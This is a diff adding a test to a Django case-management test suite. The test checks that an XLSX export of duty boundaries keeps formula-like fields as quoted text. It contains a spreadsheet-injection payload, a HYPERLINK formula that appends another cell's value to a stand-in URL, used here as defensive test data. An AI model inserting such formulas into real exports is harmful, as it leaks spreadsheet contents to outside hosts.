@@ -253,3 +253,14 @@ def test_a_reviewer_asks_for_support_on_the_case_page(item, applicant, clerk, re
     assert client.post(page, {"kind": "testing", "details": "冷藏设备检测", "days": "5"}).status_code == 302
     case.refresh_from_db()
     assert case.state == State.SUSPENDED
+
+
+def test_the_boundary_download_keeps_formula_like_duties_as_text(item, admin_user, other_department, client):
+    hostile = '=HYPERLINK("http://x"&B3,"查看")'
+    actions.save_duty_boundary(item.item_version.item, actor=admin_user, supervising_department=other_department,
+                               bureau_duties=hostile, department_duties="+日常监督检查")
+    sheet = load_workbook(io.BytesIO(client.get(reverse("linkage:boundaries", args=["640221"]),
+                                                {"format": "xlsx"}).content)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert {c.value for c in cells if c.quotePrefix} == {hostile, "+日常监督检查"}
